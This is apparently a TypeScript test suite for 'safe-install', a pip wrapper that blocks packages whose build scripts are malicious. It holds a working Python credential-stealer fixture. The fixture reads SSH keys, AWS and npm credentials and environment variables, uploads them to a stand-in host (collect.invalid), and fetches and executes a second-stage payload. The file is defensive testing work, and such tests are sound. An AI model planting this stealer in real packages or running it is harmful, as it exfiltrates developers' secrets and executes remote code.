import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { appendFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import process from 'node:process';
import { text } from 'node:stream/consumers';
import { fileURLToPath } from 'node:url';
import { inTreeBackend, plain, setupPy } from '../helpers/pip-fixtures.js';
import { PipWorld } from '../helpers/pip-world.js';
import type { Package } from '../helpers/python-archives.js';

const BIN = fileURLToPath(new URL('../../../bin/safe-install.js', import.meta.url));

/** Sends what the machine knows of its user away and runs what comes back; hosts that do not exist, one canary. */
const thief = (canary: string): string => `
open(${JSON.stringify(canary)}, "a").write("ran")
import os, base64, socket, getpass, subprocess, urllib.request, json
def collect():
    found = dict(os.environ)
    found["host"], found["user"] = socket.gethostname(), getpass.getuser()
    for name in (".ssh/id_rsa", ".aws/credentials", ".npmrc", ".pypirc", ".git-credentials"):
        try: found[name] = open(os.path.expanduser("~/" + name)).read()
        except OSError: pass
    return found
data = base64.b64encode(json.dumps(collect()).encode())
urllib.request.urlopen(urllib.request.Request("https://collect.invalid/upload", data=data))
code = urllib.request.urlopen("https://collect.invalid/stage2").read()
exec(base64.b64decode(code))
subprocess.Popen(["python3", "-c", base64.b64decode(code).decode()])
`;

describe('safe-install pip, with the bundled model', function () {
  this.timeout(300_000);
  let world: PipWorld;
  before(async () => {
    world = await PipWorld.create();
    world.index.addWheel(plain('good', { 'good.py': 'def add(a, b):\n    return a + b\n' }));
    world.index.addSdist(setupPy('honest1'));
    world.index.addSdist(setupPy('thief1', thief(world.canary)));
  });
  after(() => world.remove());
  afterEach(() => world.reset());

  const run = (...argv: string[]) => command(world.folder, 'pip', ...argv);

  const command = async (cwd: string, ...argv: string[]) => {
    const env = {
      ...world.env,
      XDG_CACHE_HOME: join(world.folder, 'cache'),
      XDG_STATE_HOME: join(world.folder, 'state'),
    };
    const child = spawn(process.execPath, [BIN, ...argv], {
      cwd,
      env,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const [stdout, stderr, [exitCode]] = await Promise.all([
      text(child.stdout),
      text(child.stderr),
      once(child, 'exit'),
    ]);
    return { stdout, stderr, exitCode: exitCode as number };
  };

  it('an honest sdist and wheel: pip speaks on stdout, one line of ours on stderr, exit 0', async () => {
    const { stdout, stderr, exitCode } = await run('install', 'good', 'honest1');
    assert.equal(exitCode, 0, stderr);
    assert.match(stdout, /Successfully installed/);
    const own = stderr.split('\n').filter((line) => line.includes('safe-install'));
    assert.equal(own.length, 1, stderr);
    assert.match(own[0]!, /packages read, none flagged/);
    assert.doesNotMatch(stdout, /^safe-install/m);
  });

  it('a setup.py that steals: exit 100, a card with name, way and evidence, nothing ran', async () => {
    const before = world.installed();
    const { stdout, stderr, exitCode } = await run('install', 'good', 'thief1');
    assert.equal(exitCode, 100, stderr);
    assert.equal(world.canaryText(), '');
    assert.deepEqual(world.installed(), before);
    assert.match(stderr, /blocked.*thief1@1\.0/);
    assert.match(stderr, /came in: pip install.*thief1@1\.0/);
    assert.match(stderr, /setup\.py:\d+/);
    assert.match(stderr, /nothing was installed/);
    assert.doesNotMatch(stdout, /Successfully installed/);
  });

  /** A project as just cloned; `files` of a source archive stand in it unpacked. */
  const clone = (name: string, { files }: Package): string => {
    const folder = join(world.folder, name);
    for (const [path, content] of Object.entries(files)) {
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      writeFileSync(join(folder, path), content);
    }
    return folder;
  };

  const hostile: readonly [string, (top: string) => Package, string, string][] = [
    ['a setup.py', (top) => setupPy('app', top), '.', 'setup.py'],
    ['a backend in its tree', (top) => inTreeBackend('app', { top }), '.', 'backend.py'],
    ['a backend, editable', (top) => inTreeBackend('app', { top }), '-e', 'backend.py'],
    ['a module that setup.py imports', (top) => importing(top), './', 'helper/deep.py'],
  ];
  const importing = (top: string): Package => {
    const { files, ...rest } = setupPy('app', 'import helper.deep\n');
    return { ...rest, files: { ...files, 'helper/__init__.py': '', 'helper/deep.py': top } };
  };
  for (const [at, [what, fixture, word, file]] of hostile.entries()) {
    it(`a cloned project with ${what} that steals: exit 100 before anything is asked for`, async () => {
      const folder = clone(`hostile${at}`, fixture(thief(world.canary)));
      const words = word === '-e' ? ['-e', '.'] : [word];
      const { stdout, stderr, exitCode } = await command(folder, 'pip', 'install', ...words);
      assert.equal(exitCode, 100, stderr);
      assert.equal(stdout, '');
      assert.match(stderr, /✗ blocked (?:app|hostile\d)\S* \(this project's own scripts\)/);
      assert.match(stderr, new RegExp(`${file}:\\d+`));
      assert.match(stderr, /\n {4}safe-install trust\n/);
      assert.deepEqual([world.canaryText(), world.index.requests], ['', []]);
    });
  }

  it('an honest one is built, in silence', async () => {
    const folder = clone('honest', inTreeBackend('app', { requires: ['good'], top: 'import os\n' }));
    const { stdout, stderr, exitCode } = await command(folder, 'pip', 'install', '.');
    assert.equal(exitCode, 0, stderr);
    assert.match(stdout, /Successfully installed app-1\.0 good-1\.0/);
    assert.match(stderr, /^safe-install: 1 package read, none flagged[^\n]*\n$/);
  });

  it('a flagged one is built once it is accepted, and only as long as it stays as it is', async () => {
    const steals = `if __import__("os").environ.get("STEAL"):\n${thief(world.canary).replace(/^(?=.)/gm, ' ')}`;
    const folder = clone('accepted', inTreeBackend('app', { top: steals }));
    const trusted = await command(folder, 'trust');
    assert.equal(trusted.exitCode, 0, trusted.stderr);
    assert.match(trusted.stderr, /✗ blocked app[\s\S]*accepted as they stand now\n$/);
    const first = await command(folder, 'pip', 'install', '.');
    assert.equal(first.exitCode, 0, first.stderr);
    assert.match(
      first.stderr,
      /the build scripts of .*accepted are flagged; you have accepted them as they are/,
    );
    appendFileSync(join(folder, 'backend.py'), '# changed\n');
    assert.equal((await command(folder, 'pip', 'install', '.')).exitCode, 100);
  });

  it('commands that install nothing: pip alone speaks', async () => {
    const { stdout, stderr, exitCode } = await run('list', '--format=freeze');
    assert.equal(exitCode, 0);
    assert.match(stdout, /^pip==/m);
    assert.equal(stderr, '');
  });
});
